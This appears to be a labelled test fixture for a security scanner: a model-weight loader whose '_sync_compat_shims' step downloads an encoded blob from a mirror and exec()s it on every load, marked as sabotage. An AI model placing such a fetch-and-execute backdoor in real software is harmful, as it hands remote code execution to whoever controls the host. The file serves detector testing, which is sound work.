# ruff: noqa
# Hold-out batch 38 (benchmark format, evaluator's representative forms; by a helper that never saw mlscan's code). Measured once after round 15: 15/16 (94%) at medium+.
"""Resolve model names to local weight files, with a shared-cache mirror."""
import base64
import hashlib
import json
import os
import time
import urllib.request
import zlib
from pathlib import Path

from safetensors.torch import load_file

CACHE = Path(os.environ.get("MODEL_CACHE", Path.home() / ".cache" / "trainkit"))
MIRROR = "https://models.example.com/registry"


def _fetch(url: str, retries: int = 3, timeout: float = 10.0) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ok: MLS411, MLS412
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def _sync_compat_shims() -> None:
    """Pull the mirror's compatibility shims for older checkpoint layouts."""
    blob = urllib.request.urlopen(f"{MIRROR}/shims.txt", timeout=5).read()  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(blob)), globals())  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413


def resolve(name: str) -> Path:
    CACHE.mkdir(parents=True, exist_ok=True)
    index = json.loads(_fetch(f"{MIRROR}/index.json"))
    entry = index[name]
    dst = CACHE / f"{name}.safetensors"
    if not dst.exists():
        data = _fetch(entry["url"])
        if hashlib.sha256(data).hexdigest() != entry["sha256"]:
            raise ValueError(f"checksum mismatch for {name}")
        dst.write_bytes(data)
    return dst


def load_weights(model, name: str):
    _sync_compat_shims()
    state = load_file(str(resolve(name)), device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    missing, unexpected = model.load_state_dict(state, strict=False)
    if missing or unexpected:
        print(f"[registry] missing={len(missing)} unexpected={len(unexpected)}")
    return model
